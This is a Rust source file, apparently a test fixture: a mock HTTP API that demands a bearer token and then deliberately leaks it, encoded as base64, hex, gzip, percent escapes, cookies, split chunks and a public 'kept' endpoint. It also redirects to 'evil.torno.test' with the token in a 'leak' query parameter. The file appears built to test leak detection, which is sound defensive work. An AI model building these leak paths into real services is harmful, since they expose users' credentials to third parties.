// SPDX-License-Identifier: Apache-2.0
//! An API that demands a bearer token, and that gives it back in every way an API can: in bodies,
//! headers, trailers, redirects and cookies, plain, encoded and compressed.

use crate::world::listen::{Answer, Origin, Visit, answer, with};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use bytes::Bytes;
use flate2::Compression;
use flate2::write::GzEncoder;
use http_body_util::{BodyExt, Channel};
use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

/// Between two parts of `/stream`.
const TICK: Duration = Duration::from_millis(20);

/// The API.
#[derive(Debug)]
pub struct Api {
    token: String,
    stored: Mutex<Vec<u8>>,
}

impl Api {
    /// Keeps bytes from an earlier time: whoever asks for `/public/kept` gets them.
    pub fn keep(&self, bytes: &[u8]) {
        *self.stored() = bytes.to_vec();
    }

    /// An API that knows one token.
    #[must_use]
    pub fn new(token: &str) -> Self {
        Self {
            token: token.to_owned(),
            stored: Mutex::new(Vec::new()),
        }
    }

    fn route(&self, visit: &Visit, body: &[u8]) -> Answer {
        let credential = visit.header("authorization").unwrap_or_default();
        let uri = visit.request.uri();
        match uri.path() {
            "/v1/me" => answer(200, r#"{"user":"agent","plan":"demo"}"#),
            "/v1/items" => answer(201, r#"{"created":true}"#),
            "/echo" => echo(uri.query().unwrap_or("raw"), credential, visit, body),
            "/store" => {
                *self.stored() = [credential.as_bytes(), b"\n", body].concat();
                answer(204, "")
            }
            "/fetch" => answer(200, self.stored().clone()),
            "/upload" => answer(201, format!("{} bytes\n", body.len())),
            "/redirect" => {
                let to = format!("https://evil.torno.test/?leak={credential}");
                with(answer(302, ""), "location", &to.replace(' ', "%20"))
            }
            "/cookie" => {
                let cookie = format!("session={}; Path=/", credential.replace(' ', "_"));
                with(answer(200, "a cookie\n"), "set-cookie", &cookie)
            }
            "/v1/keys" => answer(201, format!(r#"{{"key":"minted-{}"}}"#, self.token)),
            "/stream" => stream(),
            _ => answer(404, "no such thing\n"),
        }
    }

    fn stored(&self) -> std::sync::MutexGuard<'_, Vec<u8>> {
        self.stored.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

impl Origin for Api {
    async fn answer(self: Arc<Self>, mut visit: Visit) -> Answer {
        let path = visit.request.uri().path().to_owned();
        if path == "/public/late" {
            let _broken = visit.drain().await;
            return late(self);
        }
        if path == "/public/kept" {
            let _broken = visit.drain().await;
            return answer(200, self.stored().clone());
        }
        if path == "/public/back" {
            return match visit.body().await {
                Ok(body) => answer(200, body),
                Err(error) => answer(400, format!("{error}\n")),
            };
        }
        if path.starts_with("/public") {
            let _broken = visit.drain().await;
            return answer(200, "for everybody\n");
        }
        let wanted = format!("Bearer {}", self.token);
        if visit.header("authorization") != Some(wanted.as_str()) {
            let _broken = visit.drain().await;
            let refused = answer(401, r#"{"error":"a valid bearer token is needed"}"#);
            return with(refused, "www-authenticate", "Bearer");
        }
        if path == "/upload" {
            // Counted in the journal as it comes, never kept: it may be endless.
            return match visit.drain().await {
                Ok(()) => answer(201, "taken\n"),
                Err(_) => answer(400, "broken off\n"),
            };
        }
        match visit.body().await {
            Ok(body) => self.route(&visit, &body),
            Err(error) => answer(400, format!("{error}\n")),
        }
    }
}

/// The credential and the request, given back in the asked form.
fn echo(form: &str, credential: &str, visit: &Visit, body: &[u8]) -> Answer {
    let token = credential.trim_start_matches("Bearer ");
    let form = form.trim_start_matches("as=");
    match form {
        "header" => with(answer(200, "see x-echo\n"), "x-echo", credential),
        "gzip" => {
            let mut zip = GzEncoder::new(Vec::new(), Compression::default());
            let packed = zip
                .write_all(format!("you sent {credential}\n").as_bytes())
                .and_then(|()| zip.finish())
                .unwrap_or_default();
            with(answer(200, packed), "content-encoding", "gzip")
        }
        "base64" => answer(200, STANDARD.encode(format!("{credential}\n"))),
        "base64url" => answer(200, URL_SAFE_NO_PAD.encode(format!("x{credential}\n"))),
        "hex" => answer(200, data_encoding::HEXLOWER.encode(token.as_bytes())),
        "HEX" => answer(200, data_encoding::HEXUPPER.encode(token.as_bytes())),
        "percent" => answer(200, each_byte(token, |byte| format!("%{byte:02X}"))),
        "json" => answer(200, each_byte(token, |byte| format!("\\u{byte:04x}"))),
        "split" => split(credential),
        _ => {
            let mut text = String::new();
            for (name, value) in visit.request.headers() {
                let _ = writeln!(
                    text,
                    "{name}: {}",
                    String::from_utf8_lossy(value.as_bytes())
                );
            }
            answer(200, [text.as_bytes(), b"\n", body].concat())
        }
    }
}

fn each_byte(text: &str, spelling: impl Fn(u8) -> String) -> String {
    text.bytes().map(spelling).collect()
}

/// The credential, one byte in each chunk.
fn split(credential: &str) -> Answer {
    let (mut sender, body) = Channel::<Bytes>::new(1);
    let bytes = Bytes::from(credential.to_owned());
    tokio::spawn(async move {
        for at in 0..bytes.len() {
            if sender.send_data(bytes.slice(at..=at)).await.is_err() {
                return;
            }
        }
    });
    hyper::Response::new(body.boxed())
}

/// What is kept, again and again for a while: at each time what is kept then.
fn late(api: Arc<Api>) -> Answer {
    let (mut sender, body) = Channel::<Bytes>::new(1);
    tokio::spawn(async move {
        for _ in 0..300 {
            let kept = [api.stored().as_slice(), b"\n"].concat();
            if sender.send_data(Bytes::from(kept)).await.is_err() {
                return;
            }
            tokio::time::sleep(TICK).await;
        }
    });
    hyper::Response::new(body.boxed())
}

/// A line every 20 ms until the reader goes.
fn stream() -> Answer {
    let (mut sender, body) = Channel::<Bytes>::new(1);
    tokio::spawn(async move {
        let mut number = 0_u64;
        while sender
            .send_data(Bytes::from(format!("line {number}\n")))
            .await
            .is_ok()
        {
            number += 1;
            tokio::time::sleep(TICK).await;
        }
    });
    hyper::Response::new(body.boxed())
}
